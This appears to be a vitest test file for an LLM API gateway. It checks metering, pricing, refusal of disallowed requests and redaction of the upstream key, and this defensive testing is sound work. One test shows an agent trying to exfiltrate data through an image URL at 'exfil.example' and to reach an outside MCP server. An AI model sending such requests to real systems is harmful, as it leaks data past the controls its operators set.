/**
 * The gateway with real clients over real HTTP: the `openai` package and `@anthropic-ai/sdk` pointed at the
 * loopback endpoint by base URL, holding only the run's token, with the test LLM server as the providers.
 * Each asserts what a user sees: the reply intact, the spend metered from the reply and priced from the table,
 * the key in no reply, and who failed (the agent, or the provider) as data.
 */
import Anthropic from "@anthropic-ai/sdk";
import OpenAI from "openai";
import { describe, expect, it } from "vitest";
import { textReply, toolUseReply } from "../../../dev/llm-server/llm-server.ts";
import { DEFAULT_MAX_TOKENS } from "../../../src/gateway/gateway.ts";
import { costOf, knownPrice } from "../../../src/gateway/prices.ts";
import { type GatewayWorld, gatewayWorld, UPSTREAM_KEY } from "../../helpers/gateway.ts";

const messages = [{ role: "user" as const, content: "what is the refund window?" }];

function openai(w: GatewayWorld): OpenAI {
  // What a command sees: the endpoint's base URL and the token as its key.
  const env = w.endpoint.environment();
  return new OpenAI({ baseURL: env.OPENAI_BASE_URL, apiKey: env.OPENAI_API_KEY, maxRetries: 0 });
}

function anthropic(w: GatewayWorld): Anthropic {
  const env = w.endpoint.environment();
  return new Anthropic({ baseURL: env.ANTHROPIC_BASE_URL, apiKey: env.ANTHROPIC_API_KEY, maxRetries: 0 });
}

/** The error a call that should have been refused ended with. */
function refused(call: Promise<unknown>): Promise<Error> {
  return call.then(
    () => {
      throw new Error("expected the gateway to refuse the call");
    },
    (e: unknown) => e as Error,
  );
}

const gpt5mini = knownPrice("gpt-5-mini")!;
const sonnet = knownPrice("claude-sonnet-4-6")!;

describe("the OpenAI formats through the gateway, with the real openai package", () => {
  it("a chat completion arrives intact, is metered from its usage and priced from the table", async () => {
    const world = await gatewayWorld({
      server: {
        script: [textReply("30 days", { input_tokens: 1000, output_tokens: 20, cache_read_input_tokens: 4000 })],
      },
    });
    const reply = await openai(world).chat.completions.create({ model: "gpt-5-mini", messages });
    expect(reply.choices[0]?.message.content).toBe("30 days");
    expect(world.paid).toEqual([
      expect.objectContaining({
        model: "openai/gpt-5-mini",
        api: "openai-chat",
        split: "train",
        inputTokens: 1000,
        cacheReadTokens: 4000,
        outputTokens: 20,
        complete: true,
      }),
    ]);
    const cost = (1000 * 0.25 + 4000 * 0.025 + 20 * 2) / 1e6;
    expect(world.paid[0]?.costUsd).toBeCloseTo(cost, 12);
    expect(world.budget.spent()).toBeCloseTo(cost, 12);
    expect(world.budget.reserved()).toBe(0);
    // The provider got the harness's key, the provider's model name, and the gateway's output cap.
    const seen = world.server.requests[0]!;
    expect(seen.headers.authorization).toBe(`Bearer ${UPSTREAM_KEY}`);
    expect(seen.body).toMatchObject({ model: "gpt-5-mini", max_completion_tokens: DEFAULT_MAX_TOKENS });
    expect(world.results[0]).toMatchObject({ class: "ok", infra: false, status: 200 });
  });

  it("a stream is relayed chunk by chunk, and usage is forced on it even when the agent did not ask", async () => {
    const world = await gatewayWorld({ server: { script: [toolUseReply("refund", { order: "A1" })] } });
    const chunks: OpenAI.Chat.Completions.ChatCompletionChunk[] = [];
    const stream = await openai(world).chat.completions.create({
      model: "openai/gpt-5-mini",
      messages,
      stream: true,
      max_completion_tokens: 300,
    });
    for await (const chunk of stream) chunks.push(chunk);
    const args = chunks.map((c) => c.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? "").join("");
    expect(JSON.parse(args)).toEqual({ order: "A1" });
    expect(world.server.requests[0]?.body).toMatchObject({
      stream: true,
      stream_options: { include_usage: true },
      max_completion_tokens: 300,
    });
    const paid = world.paid[0]!;
    expect(paid.outputTokens).toBeGreaterThan(0);
    expect(paid.costUsd).toBeCloseTo(
      costOf(gpt5mini, { input_tokens: paid.inputTokens, output_tokens: paid.outputTokens }),
      12,
    );
    expect(world.results[0]).toMatchObject({ class: "ok", status: 200 });
  });

  it("a Responses call, whole and streamed, arrives intact with store forced off and usage metered", async () => {
    const world = await gatewayWorld({
      server: { script: [textReply("whole", { input_tokens: 50, output_tokens: 5 }), textReply("streamed reply")] },
    });
    const api = openai(world);
    const whole = await api.responses.create({ model: "gpt-5-mini", input: "hi", max_output_tokens: 64 });
    expect(whole.output_text).toBe("whole");
    const streamed = await api.responses
      .stream({ model: "gpt-5-mini", input: [{ role: "user", content: "hi" }] })
      .finalResponse();
    expect(streamed.output_text).toBe("streamed reply");
    expect(world.server.requests.map((r) => r.body.store)).toEqual([false, false]);
    expect(world.server.requests.map((r) => r.body.max_output_tokens)).toEqual([64, DEFAULT_MAX_TOKENS]);
    expect(world.paid.map((p) => p.api)).toEqual(["openai-responses", "openai-responses"]);
    expect(world.paid[0]).toMatchObject({ inputTokens: 50, outputTokens: 5 });
    expect(world.paid[1]?.complete).toBe(true);
  });

  it("a provider that costs nothing is still metered, at the operator's price", async () => {
    const world = await gatewayWorld({ local: { script: [textReply("local answer", { output_tokens: 9 })] } });
    const reply = await openai(world).chat.completions.create({ model: "local/qwen3-8b", messages });
    expect(reply.choices[0]?.message.content).toBe("local answer");
    expect(world.localServer.requests[0]?.body.model).toBe("qwen3-8b");
    // The local provider has no api_key_env: the token must not be passed on in its place.
    expect(world.localServer.requests[0]?.headers.authorization).toBeUndefined();
    expect(world.paid[0]).toMatchObject({ model: "local/qwen3-8b", outputTokens: 9, costUsd: 0 });
  });
});

describe("the Messages API through the gateway, with the real @anthropic-ai/sdk", () => {
  it("create and stream arrive intact; cache writes and reads are priced as Anthropic prices them", async () => {
    const usage = {
      input_tokens: 100,
      output_tokens: 10,
      cache_creation_input_tokens: 2000,
      cache_read_input_tokens: 3000,
    };
    const world = await gatewayWorld({
      server: { script: [textReply("one", usage), toolUseReply("lookup", { id: 3 })] },
    });
    const api = anthropic(world);
    const created = await api.messages.create({ model: "claude-sonnet-4-6", max_tokens: 200, messages });
    expect(created.content).toEqual([{ type: "text", text: "one" }]);
    const streamed = await api.messages
      .stream({ model: "claude-sonnet-4-6", max_tokens: 200, messages })
      .finalMessage();
    expect(streamed.content[0]).toMatchObject({ type: "tool_use", name: "lookup", input: { id: 3 } });
    expect(world.paid[0]?.costUsd).toBeCloseTo(costOf(sonnet, usage), 12);
    expect(world.paid[0]?.costUsd).toBeCloseTo((100 * 3 + 10 * 15 + 2000 * 3.75 + 3000 * 0.3) / 1e6, 12);
    expect(world.paid[1]).toMatchObject({
      model: "anthropic/claude-sonnet-4-6",
      api: "anthropic-messages",
      complete: true,
    });
    expect(world.server.requests[0]?.headers["x-api-key"]).toBe(UPSTREAM_KEY);
  });
});

describe("what the agent may not send is refused as its own fault, and nothing is forwarded", () => {
  it("an unconfigured model, in either SDK", async () => {
    const world = await gatewayWorld();
    const viaOpenai = await refused(openai(world).chat.completions.create({ model: "gpt-4o", messages }));
    expect(viaOpenai).toBeInstanceOf(OpenAI.BadRequestError);
    expect(viaOpenai.message).toMatch(/model: `gpt-4o` is not one this run may call.*openai\/gpt-5-mini/);
    const viaAnthropic = await refused(
      anthropic(world).messages.create({ model: "claude-opus-4-6", max_tokens: 10, messages }),
    );
    expect(viaAnthropic).toBeInstanceOf(Anthropic.BadRequestError);
    // A model of the other format names the path that serves it.
    const crossed = await refused(anthropic(world).messages.create({ model: "gpt-5-mini", max_tokens: 10, messages }));
    expect(crossed.message).toMatch(/served in the openai format; call \/v1\/chat\/completions/);
    expect(world.server.requests).toHaveLength(0);
    expect(world.results.map((r) => [r.class, r.infra])).toEqual([
      ["agent-request", false],
      ["agent-request", false],
      ["agent-request", false],
    ]);
    expect(world.paid).toEqual([]);
  });

  it("server tools, mcp_servers, a container, a fetched URL, a stored response: each named in the refusal", async () => {
    const world = await gatewayWorld();
    const api = openai(world);
    const refusals = await Promise.all(
      [
        api.responses.create({ model: "gpt-5-mini", input: "x", tools: [{ type: "web_search" }] }),
        api.responses.create({ model: "gpt-5-mini", input: "x", store: true }),
        api.responses.create({ model: "gpt-5-mini", input: "x", previous_response_id: "resp_123" }),
        api.chat.completions.create({
          model: "gpt-5-mini",
          messages: [
            { role: "user", content: [{ type: "image_url", image_url: { url: "https://exfil.example/?k=1" } }] },
          ],
        }),
        api.chat.completions.create({ model: "gpt-5-mini", messages, web_search_options: {} }),
        anthropic(world).messages.create({
          model: "claude-sonnet-4-6",
          max_tokens: 10,
          messages,
          // @ts-expect-error: a hostile agent sends what its SDK's types do not offer
          mcp_servers: [{ type: "url", url: "https://mcp.example", name: "x" }],
        }),
        anthropic(world).messages.create({
          model: "claude-sonnet-4-6",
          max_tokens: 10,
          messages,
          tools: [{ type: "web_search_20250305", name: "web_search" }],
        }),
      ].map((p) =>
        p.then(
          () => null,
          (e: Error) => e.message,
        ),
      ),
    );
    expect(refusals).toEqual([
      expect.stringMatching(/tools\.0\.type: got "web_search"; only the agent's own function tools pass/),
      expect.stringMatching(/store: not allowed through the gateway/),
      expect.stringMatching(/previous_response_id: not allowed/),
      expect.stringMatching(/messages\.0\.content\.0\.image_url\.url: .*only inline data: URLs/),
      expect.stringMatching(/web_search_options: not allowed/),
      expect.stringMatching(/mcp_servers: not allowed through the gateway; MCP servers are called by the provider/),
      expect.stringMatching(/tools\.0\.type: got \\?"web_search_20250305/),
    ]);
    expect(world.server.requests).toHaveLength(0);
    expect(world.results.every((r) => r.class === "agent-request" && !r.infra)).toBe(true);
  });
});

describe("the provider's failures are infrastructure; its words never carry the key back", () => {
  it("an endpoint echoing the key in an error body: the agent reads [REDACTED], and a 400 is the request's fault", async () => {
    const world = await gatewayWorld({
      server: { script: [{ fault: "echo-key" }, { fault: "echo-key", status: 401 }] },
    });
    const first = await openai(world)
      .chat.completions.create({ model: "gpt-5-mini", messages })
      .catch((e: Error) => e);
    const second = await anthropic(world)
      .messages.create({ model: "claude-sonnet-4-6", max_tokens: 5, messages })
      .catch((e: Error) => e);
    for (const e of [first, second]) {
      expect(String(e)).not.toContain(UPSTREAM_KEY);
      expect(String(e)).toContain("[REDACTED]");
    }
    expect(world.results.map((r) => [r.class, r.infra])).toEqual([
      ["upstream-refused", false],
      ["upstream-auth", true],
    ]);
    expect(JSON.stringify(world.results)).not.toContain(UPSTREAM_KEY);
  });

  it("a reply that carries the key, whole or in a streamed event, reaches the agent and its trace without it", async () => {
    // The test server streams a text in two halves; the key sits whole in the first.
    const streamed = `${UPSTREAM_KEY} ${"x".repeat(UPSTREAM_KEY.length + 10)}`;
    const world = await gatewayWorld({ server: { script: [textReply(`key=${UPSTREAM_KEY}`), textReply(streamed)] } });
    const whole = await openai(world).chat.completions.create({ model: "gpt-5-mini", messages });
    expect(whole.choices[0]?.message.content).toBe("key=[REDACTED]");
    let text = "";
    for await (const c of await openai(world).chat.completions.create({ model: "gpt-5-mini", messages, stream: true }))
      text += c.choices[0]?.delta.content ?? "";
    expect(text).toBe(streamed.replace(UPSTREAM_KEY, "[REDACTED]"));
    await world.endpoint.close();
    expect(JSON.stringify(world.results)).not.toContain(UPSTREAM_KEY);
  });

  it("429 and 5xx are the provider's (upstream-http), a dropped connection upstream-connection, a cut stream upstream-stream", async () => {
    const world = await gatewayWorld({
      server: { script: [{ fault: "429" }, { fault: "500" }, { fault: "drop" }, { fault: "drop-mid-stream" }] },
    });
    const api = openai(world);
    const settle = (p: Promise<unknown>) =>
      p.then(
        () => "ok",
        (e: Error) => e.constructor.name,
      );
    expect(await settle(api.chat.completions.create({ model: "gpt-5-mini", messages }))).toBe("RateLimitError");
    expect(await settle(api.chat.completions.create({ model: "gpt-5-mini", messages }))).toBe("InternalServerError");
    expect(await settle(api.chat.completions.create({ model: "gpt-5-mini", messages }))).toBe("APIConnectionError");
    const cut = anthropic(world).messages.stream({ model: "claude-sonnet-4-6", max_tokens: 50, messages });
    expect(await settle(cut.finalMessage())).not.toBe("ok");
    await world.endpoint.close();
    expect(world.results.map((r) => [r.class, r.infra])).toEqual([
      ["upstream-http", true],
      ["upstream-http", true],
      ["upstream-connection", true],
      ["upstream-stream", true],
    ]);
    // The cut stream had shown its input usage: that part was paid, and is counted.
    expect(world.paid).toEqual([expect.objectContaining({ model: "anthropic/claude-sonnet-4-6", complete: false })]);
    expect(world.paid[0]?.inputTokens).toBeGreaterThan(0);
  });
});
